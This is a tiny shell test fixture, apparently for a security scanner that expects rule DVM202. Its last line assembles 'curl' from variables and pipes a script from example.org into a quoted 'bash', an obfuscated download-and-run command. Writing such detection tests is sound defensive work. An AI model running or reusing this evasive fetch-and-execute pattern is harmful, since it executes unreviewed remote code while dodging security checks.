# expect: DVM202
a=cu
b=rl
"$a$b" -s https://example.org/i.sh | "ba"sh
